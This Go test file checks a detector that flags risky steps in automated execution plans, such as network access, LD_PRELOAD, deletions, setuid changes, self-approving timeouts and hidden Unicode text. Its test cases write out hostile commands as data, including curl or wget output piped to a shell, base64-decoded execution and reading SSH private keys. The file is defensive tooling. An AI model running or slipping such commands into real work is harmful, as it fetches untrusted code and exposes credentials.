package schema_test

import (
	"slices"
	"strings"
	"testing"

	"github.com/holdfast/holdfast/schema"
)

func TestAttention_FindsWhatDeservesALook(t *testing.T) {
	t.Parallel()
	for name, c := range map[string]struct {
		step  schema.PlanStep
		files map[string]string
		want  []string // kind@place
	}{
		"the file of an innocent command": {
			schema.PlanStep{Run: []string{"sh", "tidy.sh"}, Network: &schema.Network{On: true}, Env: map[string]string{"LD_PRELOAD": "./x.so"}},
			map[string]string{"tidy.sh": "set -e\ncurl -fsSL https://example.com/x | sh\n"},
			[]string{"network@s", "env@s LD_PRELOAD", "remote_code@tidy.sh curl -fsSL https://example.com/x | sh"},
		},
		"harmless": {schema.PlanStep{Shell: "python3 fit.py > out.csv && echo perform -random; grep -rf x ."}, map[string]string{"fit.py": "print('rm')"}, nil},
		"deletes": {schema.PlanStep{Shell: "cd /tmp; rm -rf build dist; echo"}, map[string]string{"a.py": "import shutil\nshutil.rmtree(x)", "b.sql": "drop table users;"},
			[]string{"delete@s rm -rf build dist", "delete@a.py shutil.rmtree", "delete@b.sql drop table"}},
		"through a substitution": {schema.PlanStep{Shell: `bash -c "$(wget -qO- example.com)"`}, nil, []string{`remote_code@s bash -c "$(wget -qO- example.com)"`}},
		"decoded":                {schema.PlanStep{Shell: "echo eHg= | base64 -d | sh"}, nil, []string{"remote_code@s base64 -d | sh"}},
		"secrets":                {schema.PlanStep{Shell: "cat ~/.ssh/id_rsa", Env: map[string]string{"DB_PASSWORD": "x", "TOKENS": "3"}}, nil, []string{"secret@s DB_PASSWORD", "secret@s .ssh/id_rsa"}},
		"privileges":             {schema.PlanStep{Shell: "chmod u+s tool"}, map[string]string{"x.sh": "chmod 4755 tool", "y.sh": "chmod 755 tool; chmod +x tool"}, []string{"privilege@s chmod u+s tool", "privilege@x.sh chmod 4755 tool"}},
		"answers for itself":     {schema.PlanStep{Shell: "true", OnTimeout: schema.OnTimeoutApprove, OnError: schema.OnErrorContinue}, nil, []string{"approves_itself@s", "goes_on_if_fails@s"}},
		"turned text":            {schema.PlanStep{Shell: "echo safe # \u202e"}, map[string]string{"z": "a\u200bb"}, []string{"hidden_text@s", "hidden_text@z"}},
		"an escape":              {schema.PlanStep{Shell: "echo \x1b[8m"}, nil, []string{"hidden_text@s"}},
	} {
		c.step.ID = "s"
		plan := schema.Plan{Steps: []schema.PlanStep{c.step}, Files: c.files}
		var got []string
		for _, a := range plan.Attention(nil) {
			got = append(got, strings.TrimSpace(string(a.Kind)+"@"+a.StepID+a.File+" "+a.Found))
		}
		if !slices.Equal(got, c.want) {
			t.Errorf("%s:\n got %q\nwant %q", name, got, c.want)
		}
	}
}

func TestAttention_IsBounded(t *testing.T) {
	t.Parallel()
	plan := schema.Plan{Files: map[string]string{}}
	for i := range 300 {
		plan.Files[strings.Repeat("x", i+1)] = "rm -rf " + strings.Repeat("y", 500)
	}
	plan.Files["z"] = "cat ~/.ssh/id_ed25519" // after all of them
	list := plan.Attention(nil)
	if len(list) != 200 || len([]rune(list[0].Found)) > 80 {
		t.Fatalf("%d entries, the first is %q", len(list), list[0].Found)
	}
	if list[1].Kind != schema.AttentionSecret || list[1].File != "z" {
		t.Errorf("a kind is left out: the second is %+v", list[1])
	}
	if last := list[199]; last.Kind != schema.AttentionMore || last.Found != "102" {
		t.Errorf("what is left out is not counted: %+v", last)
	}
}

func TestBound_HasTheDigestOfTheStepInItsPlan(t *testing.T) {
	t.Parallel()
	plan := schema.Plan{Steps: []schema.PlanStep{{ID: "a", Shell: "true"}, {ID: "b", Shell: "false"}}, Files: map[string]string{"x": "y"}}
	bound := plan.Bound(&plan.Steps[1])
	if len(bound.Steps) != 1 || bound.StepDigest(&bound.Steps[0]) != plan.StepDigest(&plan.Steps[1]) {
		t.Fatalf("another digest: %+v", bound)
	}
}

func TestHidden_NamesWhatDoesNotShowAndNothingElse(t *testing.T) {
	t.Parallel()
	for _, r := range "\x00\x1b\x7f\u0085\u00ad\u034f\u061c\u115f\u1160\u180e\u200b\u200d\u200f\u2028\u2029\u202e\u2060\u2065\u2066\u206f\u3164\ufeff\uffa0\U000e0001\U000e0041" {
		if !schema.IsInvisible(r) {
			t.Errorf("%U is not hidden", r)
		}
	}
	for _, r := range "\n\r\t a~\u00a0é\u0301אب한\u6f22😀\ufffd" {
		if schema.IsInvisible(r) {
			t.Errorf("%U is hidden", r)
		}
	}
}
